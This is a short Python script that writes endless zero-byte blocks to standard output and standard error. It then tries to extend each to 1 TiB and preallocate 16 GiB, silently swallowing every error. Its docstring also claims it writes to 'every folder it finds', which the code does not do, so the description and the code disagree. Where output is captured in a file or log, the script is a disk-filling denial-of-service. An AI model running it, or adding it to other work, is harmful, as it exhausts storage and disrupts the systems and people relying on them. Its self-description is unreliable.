"""Writes without end to the one file it holds, its standard output, and to every folder it finds."""

import os

for descriptor in (1, 2):
    try:
        while True:
            os.write(descriptor, bytes(1 << 20))
    except OSError:
        pass
    try:
        os.ftruncate(descriptor, 1 << 40)
    except OSError:
        pass
    try:
        os.posix_fallocate(descriptor, 0, 1 << 34)
    except OSError:
        pass
